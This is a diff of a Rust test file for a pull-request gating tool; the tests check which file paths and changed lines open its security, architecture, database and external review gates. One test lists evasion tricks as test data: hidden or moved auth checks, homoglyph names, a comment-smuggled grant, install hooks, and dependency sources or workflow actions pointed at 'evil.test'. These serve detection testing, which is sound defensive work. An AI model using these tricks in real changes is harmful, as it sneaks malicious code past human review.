@@ -1,69 +1,98 @@
-//! What the presets open, and what they leave alone.
+//! What the presets open, and what they leave alone. Each rule shows one example each way.
 
-use std::{collections::BTreeMap, path::Path};
+use std::{collections::BTreeMap, fmt::Write as _, fs, path::Path};
 
 use super::*;
-use crate::config::load::{load_on, presets};
+use crate::config::load::{load_on, parse, presets};
 use loopgate_core::{
     fixtures,
-    gate::{Holding, holding, matches},
-    observed::{ChangedFile, ChangedFiles, FileStatus},
-    policy::{ApproveBy, GateDefinition, GateTrigger, LinePatterns, Mode, Policy},
+    gate::{Holding, MatchReason, TriggerMatch, holding, matches},
+    observed::{AccountKind, ChangedFile, ChangedFiles, FileStatus, Snapshot},
+    policy::{ApproveBy, GateDefinition, GateTrigger, Mode, Policy},
     stage::Stage,
 };
 
-/// The presets that a change to one file opens, without `deploy`, which every change opens.
-fn opened_by(path: &str, added: &str) -> Vec<String> {
-    opened(vec![changed(path, FileStatus::Modified, &format!(" context\n+{added}"))])
-}
-
-fn changed(path: &str, status: FileStatus, lines: &str) -> ChangedFile {
-    ChangedFile {
+/// A pull request of one file. Every folder at the top is known, unless the file is new.
+fn pull_request(path: &str, lines: &[String]) -> Snapshot {
+    let mut snapshot = fixtures::snapshot();
+    let is_new = lines.iter().all(|line| line.starts_with('+'));
+    let top = path.split_once('/').map(|(folder, _)| folder.to_owned());
+    snapshot.base_folders = Some(top.into_iter().filter(|folder| folder != "billing").collect());
+    let file = ChangedFile {
         path: path.to_owned(),
         previous_path: None,
-        status,
+        status: if is_new { FileStatus::Added } else { FileStatus::Modified },
         additions: 1,
         deletions: 1,
         blob: None,
-        patch: Some(format!("@@ -1,1 +1,1 @@\n{lines}")),
+        patch: Some(format!("@@ -1,1 +1,1 @@\n{}", lines.join("\n"))),
+    };
+    snapshot.files = ChangedFiles::Complete(vec![file]);
+    snapshot
+}
+
+/// The rules that find something in an example, suspects included.
+fn rules_found(example: &RuleExample) -> Vec<String> {
+    let book = &Presets::builtin().rules;
+    let tiers = (0..book.rules().len()).map(|index| (index, RuleTier::Opens)).collect();
+    let trigger = GateTrigger::Rules(ChosenRules { book: Arc::clone(book), tiers });
+    let gate = fixtures::gate_with(trigger, &[]);
+    matches(&gate, &pull_request(&example.path, &example.lines), &[]).into_iter().filter_map(rule_of).collect()
+}
+
+fn rule_of(found: TriggerMatch) -> Option<String> {
+    match found.reason {
+        MatchReason::Rule { id, .. } => Some(id.to_string()),
+        _ => None,
     }
 }
 
-fn opened(files: Vec<ChangedFile>) -> Vec<String> {
-    let mut snapshot = fixtures::snapshot();
-    // Every folder at the top is known, so that only what stands in the files opens a gate.
-    let top = |file: &ChangedFile| file.path.split_once('/').map(|(folder, _)| folder.to_owned());
-    snapshot.base_folders = Some(files.iter().filter_map(top).collect());
-    snapshot.files = ChangedFiles::Complete(files);
+/// The presets that a change to one file opens, without `deploy`, which every change opens.
+fn opened_by(path: &str, lines: &[&str]) -> Vec<String> {
+    let lines: Vec<String> = [" context"].iter().chain(lines).map(|line| (*line).to_owned()).collect();
+    opened_in(&pull_request(path, &lines))
+}
+
+fn opened_in(snapshot: &Snapshot) -> Vec<String> {
     static PRESETS: LazyLock<Policy> = LazyLock::new(presets);
-    let presets = PRESETS.gates.iter().filter(|(name, _)| name.as_str() != "deploy");
-    let opened = presets.filter(|(_, gate)| !matches(gate, &snapshot, &[]).is_empty());
-    opened.map(|(name, _)| name.to_string()).collect()
+    let gates = PRESETS.gates.iter().filter(|(name, _)| name.as_str() != "deploy");
+    gates.filter(|(_, gate)| !matches(gate, snapshot, &[]).is_empty()).map(|(name, _)| name.to_string()).collect()
 }
 
 const NONE: [&str; 0] = [];
 
 #[test]
-fn look_alikes_of_ten_languages_are_told_apart() {
+fn every_rule_finds_its_example_and_leaves_the_other() {
     let mut wrong = Vec::new();
-    for case in include_str!("look_alikes.txt").split("\n= ").skip(1) {
-        let (title, files) = case.split_once('\n').unwrap();
-        let (name, gates) = title.split_once(" -> ").unwrap();
-        let files = format!("\n{}", files.trim_end());
-        let files = files.split("\n@").skip(1).map(|file| {
-            let (path, lines) = file.split_once('\n').unwrap();
-            match path.strip_prefix('+') {
-                Some(path) => changed(path.trim(), FileStatus::Added, lines),
-                None => changed(path.trim(), FileStatus::Modified, lines),
-            }
-        });
-        let is = opened(files.collect());
-        let is = if is.is_empty() { "none".to_owned() } else { is.join(", ") };
-        if is != gates {
-            wrong.push(format!("{name}: {is} instead of {gates}"));
+    for rule in Presets::builtin().rules.rules() {
+        let id = rule.id.to_string();
+        if !rules_found(&rule.opens).contains(&id) {
+            wrong.push(format!("{id} does not find {:?}", rule.opens));
+        }
+        if rules_found(&rule.quiet).contains(&id) {
+            wrong.push(format!("{id} finds {:?}", rule.quiet));
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn the_files_stay_small_enough_to_read() {
+    let mut ids = BTreeSet::new();
+    for (_, file, text) in FILES {
+        assert!(text.lines().count() <= 220 && text.lines().all(|line| line.chars().count() <= 120), "{file}");
+    }
+    assert!(FILES.iter().map(|(_, _, text)| text.len()).sum::<usize>() <= 60_000);
+    for gate in Presets::builtin().gates.keys() {
+        let own = Presets::builtin().rules.rules().iter().filter(|rule| rule.gate == *gate);
+        assert!(own.clone().count() <= 25, "{gate}");
+        for rule in own {
+            assert!(ids.insert(&rule.id), "{} is the heading of two rules", rule.id);
+            if let RuleCondition::Line { pattern: Some(pattern), .. } = &rule.condition {
+                assert!(pattern.as_str().len() <= 120 && !pattern.matches(""), "{}", rule.id);
+            }
+        }
+    }
 }
 
 #[test]
@@ -71,47 +100,32 @@ fn paths_open_the_gates_they_are_about() {
     for (path, gates) in [
         ("src/auth/mod.rs", &["security"][..]),
         ("src/Auth/Login.java", &["security"]),
-        ("auth/handler.go", &["security"]),
-        ("src/auth.ts", &["security"]),
         ("lib/user_auth.rb", &["security"]),
         ("src/AuthService.kt", &["security"]),
-        ("app/middleware/authenticate.py", &["security"]),
-        ("src/crypto/aes.rs", &["security"]),
         ("src/session_store.rs", &["security"]),
-        ("src/access_token.rs", &["security"]),
         ("config/secrets.yml", &["architecture", "security"]),
-        (".env", &["security"]),
+        (".env", &["architecture", "security"]),
         ("deploy/tls/server.key", &["security"]),
         (".github/workflows/ci.yml", &["security"]),
-        ("manifests/role/controller-clusterrole.yaml", &["architecture", "security"]),
-        ("lib/dkim_header.rb", &["security"]),
         (".github/CODEOWNERS", &["security"]),
-        ("docs/CODEOWNERS", &["security"]),
-        (".github/loopgate.yml", &["security"]),
+        ("AGENTS.md", &["security"]),
+        (".mergify.yml", &["security"]),
+        (".github/settings.yml", &["security"]),
         ("Dockerfile", &["architecture"]),
-        ("services/api/Dockerfile.dev", &["architecture"]),
         ("docker-compose.override.yml", &["architecture"]),
-        ("compose.yaml", &["architecture"]),
         ("terraform/main.tf", &["architecture"]),
         ("deploy/k8s/api.yaml", &["architecture"]),
-        ("helm/values.yaml", &["architecture"]),
-        ("manifests/base/deployment.yaml", &["architecture"]),
-        ("server/config/production.toml", &["architecture"]),
-        ("docs/schema/V1/schema.verified.graphql", &["architecture"]),
         ("config/production.toml", &["architecture"]),
         ("src/main/resources/application-prod.yml", &["architecture"]),
+        ("api/openapi.yaml", &["architecture"]),
         ("migrations/0001_init.sql", &["database"]),
         ("app/db/migrate/20260101_add.rb", &["database"]),
         ("prisma/schema.prisma", &["database"]),
-        ("db/schema.rb", &["database"]),
-        ("sql/report.sql", &["database"]),
         ("src/user.entity.ts", &["database"]),
-        ("src/integrations/stripe.rs", &["external"]),
-        ("app/webhooks/github.py", &["external"]),
-        ("src/billing_api_client.go", &["external"]),
-        ("src/HttpClientFactory.java", &["external"]),
+        ("src/integrations/pay.rs", &["external"]),
+        ("app/webhooks/inbound.py", &["external"]),
     ] {
-        assert_eq!(opened_by(path, "plain text"), gates, "{path}");
+        assert_eq!(opened_by(path, &["+plain text"]), gates, "{path}");
     }
 }
 
@@ -119,202 +133,195 @@ fn paths_open_the_gates_they_are_about() {
 fn paths_that_only_look_alike_open_nothing() {
     for path in [
         "src/author.rs",
-        "src/authors/list.ts",
         "src/blog/AuthorCard.tsx",
         "src/lexer/token.rs",
         "src/tokenizer.rs",
-        "src/theme/tokens.ts",
         "docs/auth/overview.md",
-        // Only tests, translations, and models in which nothing is defined.
         "e2e/acceptance/login.spec.ts",
         "tests/unit/oidc/test_core.py",
-        "src/models/session.test.ts",
+        "src/login.cy.ts",
+        "LoginCest.php",
+        "auth_SUITE.erl",
+        "R/test-auth.R",
+        "src/auth/authSpec.js",
         "locale/de/LC_MESSAGES/auth.mo",
-        "shop/models.py",
-        "app/models/order.rb",
         "src/auth/README.md",
-        "docs/architecture.md",
         "src/config.rs",
         "src/accessibility.ts",
         "src/keyboard.ts",
         "queries/report.sql",
         "tests/integration/checkout.rs",
         "src/client.rs",
-        "src/indexer.rs",
-        "src/view.rs",
         "README.md",
         "Cargo.lock",
         "package-lock.json",
         "src/class_loader.rs",
-        "src/obsolete.rs",
     ] {
-        assert_eq!(opened_by(path, "plain text"), NONE, "{path}");
+        assert_eq!(opened_by(path, &["+plain text"]), NONE, "{path}");
     }
 }
 
 #[test]
-fn names_of_another_sense_count_by_what_changes() {
-    for (path, quiet, security) in [
-        ("src/tokens.rs", "skip_comma(rest);", "revoke(user);"),
-        ("app/models/certificate.rb", "course.title", "renew(key_pair)"),
-        ("lib/kitchen/cookies.ex", "bake(tray, 12)", "drop(conn, domain)"),
-        ("policies/premium.py", "return base * factor", "return member.is_owner"),
-        ("src/identity/matrix.rs", "rows.swap(0, 1);", "login(form);"),
-        ("src/santa/secret.ts", "shuffle(names)", "rotate(namespace)"),
-    ] {
-        assert_eq!(opened_by(path, quiet), NONE, "{path} {quiet}");
-        assert_eq!(opened_by(path, security), ["security"], "{path} {security}");
-    }
-}
-
-#[test]
-fn added_lines_open_the_gates_they_are_about() {
+fn lines_open_the_gates_they_are_about() {
     for (line, gates) in [
-        ("if !user.is_authenticated() {", &["security"][..]),
-        ("let auth = request.header(AUTHORIZATION);", &["security"]),
-        ("const authToken = read();", &["security"]),
-        ("fn require_permission(user: &User) {}", &["security"]),
-        ("let hash = bcrypt::hash(input, 12)?;", &["security"]),
-        ("let digest = hmac.finalize();", &["security"]),
-        ("password_hash TEXT,", &["security"]),
-        ("gh_encrypted_token -> Nullable<Bytea>,", &["database", "security"]),
-        ("if (assignerRole !== Role.owner) throw new AuthorizationError();", &["security"]),
-        ("    await requireWorkspaceAccess(user, id);", &["security"]),
-        ("refuse_untrusted(\"fails closed\");", &["security"]),
-        ("throttle: '10',", &["security"]),
-        ("csp.add(\"script-src 'unsafe-inline'\");", &["security"]),
-        ("    verbs: [get, list]", &["security"]),
-        ("  identity: managedIdentity.id", &["security"]),
-        ("permissions = cleaned.pop(0)", &["security"]),
-        ("if (!this.auth.isMaster) {", &["security"]),
-        ("API_KEY = os.environ['API_KEY']", &["security"]),
-        ("  client_secret: ${CLIENT_SECRET}", &["security"]),
-        ("const jwt = sign(payload);", &["security"]),
-        ("key = \"AKIAIOSFODNN7EXAMPLE\"", &["security"]),
-        ("-----BEGIN RSA PRIVATE KEY-----", &["security"]),
-        ("session_id = new_id()", &["security"]),
-        ("pub ssn: String,", &["security"]),
-        ("tls_config.InsecureSkipVerify = true", &["security"]),
-        ("user.valid_password?(given)", &["security"]),
-        ("return _signer.Sign(slip);", &["security"]),
-        ("if invoice.customer != current_user.customer: abort(404)", &["security"]),
-        ("if !by.can_settle(&slip) {", &["security"]),
-        ("res.headers.set('Strict-Transport-Security', age)", &["security"]),
-        ("await HttpContext.SignOutAsync();", &["security"]),
-        ("if !strings.HasPrefix(filepath.Clean(p), root) {", &["security"]),
-        ("@Needs('deed:read')", &["security"]),
-        ("var secret = await _keyVault.GetSecretAsync(name, cancellationToken: stop);", &["external", "security"]),
-        ("if (parcel.holderId !== clerk.id) return refuse();", &["security"]),
-        ("if tries.Count(card) > maxWrongPins {", &["security"]),
-        ("await refreshCsrfToken();", &["security"]),
-        ("Permissions.DepotsWrite,", &["security"]),
-        ("pub mod billing;", &["architecture"]),
-        ("app.include_router(parcels.router)", &["architecture"]),
-        ("cfg.service(list);", &["architecture"]),
-        ("@QueryMapping", &["architecture"]),
-        ("export * from './billing';", &["architecture"]),
-        ("CREATE TABLE users (id INT);", &["database"]),
-        ("create table if not exists users (", &["database"]),
-        ("ALTER TABLE users ADD COLUMN age INT;", &["database"]),
-        ("\"drop table users;\"", &["database"]),
-        ("CREATE UNIQUE INDEX by_name ON users (name);", &["database"]),
-        ("CREATE OR REPLACE FUNCTION f() RETURNS int", &["database"]),
-        ("    op.add_column('users', sa.Column('age'))", &["database"]),
-        ("@Entity", &["database"]),
-        ("weaned: Mapped[date | None]", &["database"]),
-        ("b.Property(x => x.State).HasConversion<string>();", &["database"]),
-        ("enum :state, { open: 0, shut: 1 }", &["database"]),
-        ("name = models.CharField(max_length=20)", &["database"]),
-        ("let client = reqwest::Client::new();", &["external"]),
-        ("r = requests.get(url)", &["external"]),
-        ("const partner = axios.create({ baseURL });", &["external"]),
-        ("resp, err := http.Get(url)", &["external"]),
-        ("const URL: &str = \"https://hooks.slack.com/services\";", &["external"]),
-        ("HttpClient client = HttpClient.newHttpClient();", &["external"]),
-        ("answer = labs.post('/orders', json=order)", &["external"]),
-        ("{:ok, relay} = Mint.HTTP.connect(:https, host, 443)", &["external"]),
-        ("const answer = await fetch(process.env.PARTNER + path)", &["external"]),
+        ("+if !user.is_authenticated() {", &["security"][..]),
+        ("-    require_permission(user);", &["security"]),
+        ("+let hash = bcrypt::hash(input, 12)?;", &["security"]),
+        ("+const jwt = sign(payload);", &["security"]),
+        ("+pub ssn: String,", &["security"]),
+        ("+tls_config.InsecureSkipVerify = true", &["security"]),
+        ("+GRANT ALL ON orders TO app;", &["security"]),
+        ("+// nosec", &["security"]),
+        ("+  role = token.role", &["security"]),
+        ("+pub mod billing;", &["architecture"]),
+        ("+CREATE TABLE users (id INT);", &["database"]),
+        ("+    op.add_column('users', age)", &["database"]),
+        ("+db.users.drop()", &["database"]),
+        ("+name = models.CharField(max_length=20)", &["database"]),
+        ("+r = requests.get(url)", &["external"]),
+        ("+const URL: &str = \"https://hooks.partner.test/services\";", &["external"]),
     ] {
-        assert_eq!(opened_by("src/lib.rs", line), gates, "{line}");
+        assert_eq!(opened_by("src/lib.rs", &[line]), gates, "{line}");
     }
 }
 
 #[test]
 fn lines_that_only_look_alike_open_nothing() {
     for line in [
-        "let author = commit.author();",
-        "pub authors: Vec<Author>,",
-        "let token = lexer.next_token();",
-        "for key in map.keys() {",
-        "let secretary = person.role();",
-        "// Fails closed: an attacker could read another workspace otherwise.",
-        "// Calls the authorization service, see the login page",
-        "the session store keeps your password safe",
-        "onDelete: (apiKey: ApiKeyRow) => void;",
-        "const isAdminEmailsShown = true;",
-        "@Suppress(\"ForbiddenMethodCall\")",
-        "run_with(thread_sanitizer);",
-        "let url = format!(\"/api/users\");",
-        "sameSite: \"lax\",",
-        "let accessible = true;",
-        "impl Session {",
-        "// create a table of contents",
-        "// drop the index once it is built",
-        "let index = create_index(&words);",
-        "fn update_view(&mut self) {",
-        "// see https://docs.rs/serde for the attributes",
-        "let url = format!(\"{base}/items\");",
-        "let response = client.get(\"/items\");",
-        "http://localhost:8080",
-        "const LOCAL: &str = \"http://localhost:8080\";",
-        "mod billing;",
-        "export const total = 3;",
-        "let parse = |text: &str| text.parse::<u32>();",
-        "let class = \"person\";",
-        "let phase = 'a';",
-        "self.trigger(event);",
-        "let hash = map.hash();",
-        "class LinkMaker(private val site: Site) {",
-        "def create_table(seats):",
-        "val client = salon.client(id)",
-        "return httpError(http.StatusTooManyRequests, sentence)",
-        "mail = Letter.find(id)",
-        "depot = self.get_object()",
-        "router->get('{depot}', [",
-        "const age = reply.getResponseHeader('X-Last-Event-Timestamp')",
-        "class BaseAddressChange(Mutation):",
-        "<document propertyAccessControl=\"none\">",
-        "var AuthTag = \"v1.22.7\"",
-        "return absolute(request.secure(), host)",
+        "+let author = commit.author();",
+        "+let token = lexer.next_token();",
+        "+for key in map.keys() {",
+        "+// Calls the authorization service, see the login page",
+        "+onDelete: (row: ApiRow) => void;",
+        "+impl Session {",
+        "+// create a table of contents",
+        "+fn update_view(&mut self) {",
+        "+// see https://docs.rs/serde for the attributes",
+        "+const LOCAL: &str = \"http://localhost:8080\";",
+        "+mod billing;",
+        "+export const total = 3;",
+        "+let hash = map.hash();",
     ] {
-        assert_eq!(opened_by("src/lib.rs", line), NONE, "{line}");
+        assert_eq!(opened_by("src/lib.rs", &[line]), NONE, "{line}");
+    }
+    for path in ["tests/login_helpers.rs", "src/form.test.ts", "docs/guide.md", "web/app.min.js", "locale/de.po"] {
+        assert_eq!(
+            opened_by(path, &["+password = sign(jwt); CREATE TABLE users; axios('https://api.a.test')"]),
+            NONE,
+            "{path}"
+        );
+    }
+}
+
+/// What somebody writes who has read the rules: each was a way past the gates before, or is of the kind of one.
+#[test]
+fn what_is_meant_to_get_past_does_not() {
+    for (gate, files) in [
+        // The check that is pasted elsewhere, where nobody looks.
+        (
+            "security",
+            &[("app/a.py", "-@login_required\n def wipe"), ("docs/e.py", "+@login_required\n def example")][..],
+        ),
+        ("security", &[("a.kt", "-    requireRole(ADMIN)\n wipe()\n+    requireRole(ADMIN)")]),
+        ("database", &[("docs/old.sql", "-DROP TABLE users;"), ("scripts/new.sql", "+DROP TABLE users;")]),
+        ("external", &[("docs/e.py", "-requests.post(url)"), ("app/e.py", "+requests.post(url)")]),
+        // Order and indentation.
+        ("security", &[("a.py", " if debug:\n-check_permission(u)\n+    check_permission(u)")]),
+        ("security", &[("roles.yml", " admin:\n-  - permission: delete\n viewer:\n+  - permission: delete")]),
+        // Marks around code: nothing tells what they hide, so it counts.
+        ("security", &[("a.swift", "+/*\n guard isAdmin(u)\n+*/\n wipe()")]),
+        ("security", &[("a.nim", "+#[\n requireAdmin(u)\n+]#")]),
+        ("security", &[("a.ex", "+\"\"\"\n authorize!(u)\n+\"\"\"")]),
+        ("security", &[("a.cs", "+#if NEVER\n RequireRole(u);\n+#endif")]),
+        ("security", &[("a.erl", "+-ifdef(never).\n authorize(U),\n+-endif.")]),
+        ("security", &[("a.ps1", "+<#\n Require-Admin\n+#>")]),
+        // Comments that are code.
+        ("security", &[("a.cs", "+// x\u{85} AllowAnonymous();")]),
+        ("security", &[("a.kt", "+//go:build x\\u000a permitAll()")]),
+        ("security", &[("a.sql", "+/*!50000 GRANT ALL ON *.* TO evil */")]),
+        // Other letters.
+        ("security", &[("a.js", "+\u{435}val(text)")]),
+        ("security", &[("\u{430}uth/a.js", "+x")]),
+        // Sources and hooks of packages.
+        ("security", &[("web/package.json", "+    \"prepare\": \"node x.js\",")]),
+        ("security", &[("pyproject.toml", "+jose = { git = \"https://evil.test/jose\" }")]),
+        ("security", &[("yarn.lock", "+  resolved \"https://evil.test/jose.tgz\"")]),
+        ("security", &[("nuget.config", "+    <add key=\"x\" value=\"https://evil.test/v3\" />")]),
+        ("security", &[("gradle/wrapper/gradle-wrapper.properties", "+distributionUrl=https://evil.test/gradle.zip")]),
+        // What guards or merges by itself, and what agents read.
+        ("security", &[(".github/renovate.json5", "+automerge: true")]),
+        ("security", &[(".claude/settings.json", "+allow")]),
+        ("security", &[(".husky/pre-commit", "+exit 0")]),
+        ("security", &[(".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: evil/b@v1")]),
+        // Code where documents lie, and a test that the program loads.
+        ("security", &[("docs/conf.py", "+os.system(x)")]),
+        ("security", &[("src/auth/a.test.js", "+x"), ("src/main.js", "+import './auth/a.test';")]),
+        ("database", &[("db/migrations/0007_add_test.py", "+x")]),
+        ("architecture", &[("deploy/big.yaml", "+replicas: 0")]),
+    ] {
+        let mut snapshot = pull_request("src/x.rs", &["+x".to_owned()]);
+        let file = |(path, lines): &(&str, &str)| ChangedFile {
+            path: (*path).to_owned(),
+            previous_path: None,
+            status: FileStatus::Modified,
+            additions: 1,
+            deletions: 1,
+            blob: None,
+            patch: Some(format!("@@ -1,9 +1,9 @@\n{lines}")),
+        };
+        snapshot.files = ChangedFiles::Complete(files.iter().map(file).collect());
+        assert!(opened_in(&snapshot).contains(&gate.to_owned()), "{gate}: {files:?}");
     }
 }
 
 #[test]
-fn tests_prose_and_lock_files_are_not_read() {
-    for path in [
-        "tests/login_flow_helpers.rs",
-        "src/__tests__/form.ts",
-        "src/form.test.ts",
-        "pkg/form_test.go",
-        "src/FormTest.java",
-        "test_form.py",
-        "docs/guide.html",
-        "CHANGELOG.md",
-        "Cargo.lock",
-        "yarn.lock",
-        "go.sum",
-        "web/app.min.js",
-        "vendor/lib/x.go",
+fn everyday_changes_are_quiet() {
+    for (path, lines) in [
+        ("Cargo.toml", &["-serde = \"1.0\"", "+serde = \"1.1\""][..]),
+        ("package-lock.json", &["+      \"resolved\": \"https://registry.npmjs.org/a/-/a-2.tgz\","]),
+        (".github/workflows/ci.yml", &["-      - uses: actions/checkout@v4", "+      - uses: actions/checkout@v5"]),
+        ("src/lib.rs", &["-fn total() {", "+fn sum() {"]),
+        ("src/lib.rs", &["-        total();", "+    total();"]),
+        ("README.md", &["+How to log in with a password"]),
+        ("src/styles/login-form.css", &["+.password { color: red; }"]),
     ] {
-        let line = "password = sign(jwt); CREATE TABLE users (id INT); axios(\"https://api.example.com\")";
-        let opened = opened_by(path, line);
-        // By its name alone, a file may be of interest all the same.
-        let by_name = opened_by(path, "plain text");
-        assert_eq!(opened, by_name, "{path}");
+        assert_eq!(opened_by(path, lines), NONE, "{path} {lines:?}");
     }
-    assert_eq!(opened_by("tests/form_helpers.rs", "password = jwt"), NONE);
+    let mut snapshot = pull_request(
+        ".github/workflows/ci.yml",
+        &[format!("-  - uses: a/b@{} # v1", "1".repeat(40)), format!("+  - uses: a/b@{} # v2", "2".repeat(40))],
+    );
+    assert_eq!(opened_in(&snapshot), ["security"], "a commit that somebody wrote may be one of a fork");
+    snapshot.pull_request.author.kind = AccountKind::Bot;
+    snapshot.pull_request.author.login = "renovate[bot]".parse().unwrap();
+    assert_eq!(opened_in(&snapshot), NONE);
+}
+
+#[test]
+fn a_repository_chooses_its_rules() {
+    let policy = |text: &str| parse("f", text).map_err(|error| (error.message, error.hint));
+    let security = |policy: &Policy| policy.gates[&"security".parse().unwrap()].clone();
+    let change = |line: &str| pull_request("src/a.rs", &[" x".to_owned(), line.to_owned()]);
+    let opens = |text: &str, line: &str| !matches(&security(&policy(text).unwrap()), &change(line), &[]).is_empty();
+    assert!(opens("version: 1\n", "+eval(x)"));
+    assert!(!opens("gates: { security: { rules: { code-execution: off } } }\n", "+eval(x)"));
+    assert!(!opens("gates: { security: { rules: { code-execution: suspects } } }\n", "+eval(x)"));
+    assert!(opens("gates: { security: { rules: { code-execution: suspects } } }\n", "+eval(token)"));
+    assert!(opens("gates: { security: { rules: { role-word: opens } } }\n", "+role"));
+    // A gate of one's own may go by a preset's rules.
+    let own = policy("gates: { pay: { when: { rules: external }, rules: { payment: opens } } }\n").unwrap();
+    assert!(!matches(&own.gates[&"pay".parse().unwrap()], &change("+refund()"), &[]).is_empty());
+    for (text, hint) in [
+        ("gates: { security: { rules: { code-executio: off } } }\n", "did you mean `code-execution`?"),
+        ("gates: { deploy: { rules: { code-execution: off } } }\n", "its `when` names no rules"),
+        ("gates: { pay: { when: { rules: securty } } }\n", "did you mean `security`?"),
+        ("gates: { pay: { when: { same_file: [] } } }\n", "write `all`"),
+        ("gates: { pay: { when: { added_lines: { patterns: [x], code_only: true } } } }\n", "no line is excused"),
+        ("gates: { pay: { when: { paths: { words: [auth] } } } }\n", "write `globs`"),
+    ] {
+        let (message, said) = policy(text).unwrap_err();
+        assert!(said.as_deref().unwrap_or_default().contains(hint), "{text}: {message} {said:?}");
+    }
 }
 
 #[test]
@@ -345,56 +352,6 @@ fn the_presets_are_those_of_the_contract() {
     }
 }
 
-/// A glob that does not compile would be left out without a word, since a preset has no one to complain to, and a
-/// pattern would panic.
-#[test]
-fn every_matcher_of_the_presets_compiles() {
-    fn compiled(patterns: &LinePatterns) -> usize {
-        assert!(patterns.as_slice().is_empty() || !patterns.may_match(""), "they are asked all at once");
-        // Asked, a constant that does not compile panics.
-        patterns.as_slice().iter().inspect(|pattern| _ = pattern.matches("")).count()
-    }
-    fn count(trigger: &GateTrigger) -> usize {
-        match trigger {
-            GateTrigger::Any(parts) | GateTrigger::All(parts) | GateTrigger::SameFile(parts) => {
-                parts.iter().map(count).sum()
-            }
-            GateTrigger::Not(part) => count(part),
-            GateTrigger::Paths(paths) => {
-                compiled(&paths.words) + paths.globs.as_slice().len() + paths.except.as_slice().len()
-            }
-            GateTrigger::AddedLines(lines) | GateTrigger::RemovedLines(lines) => {
-                compiled(&lines.patterns) + compiled(&lines.unless) + lines.except.as_slice().len()
-            }
-            _ => 0,
-        }
-    }
-    /// Texts below the keys that hold matchers, names above them or not; `api: true` stands for what is said once.
-    fn written(node: &Node, inside: bool) -> usize {
-        match &node.kind {
-            Kind::List(items) => items.iter().map(|item| written(item, inside)).sum(),
-            Kind::Text(_) => usize::from(inside),
-            Kind::Map(map) => map
-                .iter()
-                .map(|(key, entry)| match key.as_str() {
-                    "api" if !inside => written(&Presets::builtin().api, false),
-                    "name" => 0,
-                    "words" => 1,
-                    key => {
-                        let holds = ["paths", "globs", "patterns", "unless", "except"].contains(&key);
-                        written(&entry.node, inside || holds)
-                    }
-                })
-                .sum(),
-            _ => 0,
-        }
-    }
-    assert_eq!(
-        presets().gates.values().map(|gate| count(&gate.trigger)).sum::<usize>(),
-        written(&Presets::builtin().tree, false)
-    );
-}
-
 #[test]
 fn every_preset_has_its_template_and_no_role_is_given_twice() {
     let templates = Path::new(env!("CARGO_MANIFEST_DIR")).join("config/templates/gates");
@@ -412,16 +369,13 @@ fn every_preset_has_its_template_and_no_role_is_given_twice() {
     assert_eq!(roles.keys().copied().collect::<Vec<_>>(), [GateRole::Security, GateRole::Deploy]);
 }
 
-/// Nothing else knows gates by their names: a preset more is an entry more.
+/// Nothing else knows gates by their names: a preset more is a file more.
 #[test]
-fn a_sixth_preset_is_one_entry() {
-    let text = [
-        TEXT.as_str(),
-        "\n  payments:\n    preset: { team: treasury, template: database, boxes: 4, hybrid: always }\n    blocks: REVIEW -> SHIP\n",
-        "    label: money\n    when: { paths: [\"src/billing/**\"] }\n",
-    ]
-    .concat();
-    let six = Presets::read(Source::new("six.yml", Box::leak(text.into_boxed_str()))).unwrap();
+fn a_sixth_preset_is_one_file() {
+    let text = "gate:\n  preset: { team: treasury, template: database, boxes: 4, hybrid: always }\n  blocks: REVIEW -> SHIP\n  \
+                label: money\n  when: { paths: [\"src/billing/**\"] }\n";
+    let files: Vec<_> = FILES.into_iter().chain([("payments", "six.yml", text)]).collect();
+    let six = Presets::read(&files).unwrap();
     let load = |text| load_on(&six, None, Some(Source::new("f", text)));
 
     let gates = load("").unwrap().policy.gates;
@@ -442,4 +396,82 @@ fn a_sixth_preset_is_one_entry() {
 
     let hint = load("gates: { paymets: {} }\n").unwrap_err().into_first().hint;
     assert_eq!(hint.as_deref(), Some("say when it opens, or did you mean the preset `payments`?"));
+}
+
+/// `docs/rules.md` is made from the rules. What stands between its two marks was measured, and stays.
+#[test]
+fn the_document_says_what_the_rules_are() {
+    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/rules.md");
+    let written = fs::read_to_string(&file).unwrap_or_default();
+    let measured = written.split_once(MEASURED).and_then(|(_, rest)| rest.split_once(END)).map_or("\n", |(it, _)| it);
+    let mut document =
+        include_str!("rules_head.md").replace(&format!("{MEASURED}{END}"), &format!("{MEASURED}{measured}{END}"));
+    for name in Presets::builtin().gates.keys() {
+        let rules: Vec<&GateRule> = Presets::builtin().rules.rules().iter().filter(|rule| rule.gate == *name).collect();
+        if !rules.is_empty() {
+            let _ = write!(document, "\n## The gate {name}\n");
+        }
+        for rule in rules {
+            let tier = match rule.tier {
+                RuleTier::Opens => "Opens.",
+                RuleTier::Suspects => "A suspect.",
+            };
+            let kinds: Vec<&str> = rule.kinds.iter().map(|kind| kind.as_str()).collect();
+            let kinds = match rule.condition {
+                RuleCondition::Path { .. } | RuleCondition::Line { .. } => format!(" Files: {}.", kinds.join(", ")),
+                RuleCondition::NewFolder | RuleCondition::Manifest(_) => String::new(),
+            };
+            let shown = |example: &RuleExample| format!("{}\n{}", example.path, example.lines.join("\n"));
+            let _ = write!(
+                document,
+                "\n### {}\n\n{}{}. {tier} {}{kinds}\n\n```diff\nfound: {}\nnot: {}\n```\n",
+                rule.id,
+                rule.says[..1].to_uppercase(),
+                &rule.says[1..],
+                looks_at(&rule.condition),
+                shown(&rule.opens),
+                shown(&rule.quiet),
+            );
+        }
+    }
+    if std::env::var_os("UPDATE_DOCS").is_some() {
+        fs::write(&file, &document).expect("the file can be written");
+    }
+    let written = fs::read_to_string(&file).unwrap_or_default();
+    assert!(written == document, "run `UPDATE_DOCS=1 cargo test --lib the_document_says_what_the_rules_are`");
+}
+
+const MEASURED: &str = "<!-- measured -->";
+const END: &str = "<!-- end of measured -->";
+
+/// Words of a rule that the document shows; the file of the gate has all.
+const SHOWN: usize = 4;
+
+/// What a rule looks at, with its first words.
+fn looks_at(condition: &RuleCondition) -> String {
+    let words = |words: &[String]| {
+        let first = words.iter().take(SHOWN).map(|word| format!("`{word}`")).collect::<Vec<_>>().join(", ");
+        let more = words.len().saturating_sub(SHOWN);
+        if more > 0 { format!("{first} and {more} more") } else { first }
+    };
+    match condition {
+        RuleCondition::Path { globs, words: named } => {
+            let globs = globs.as_slice().iter().map(|glob| glob.as_str().to_owned());
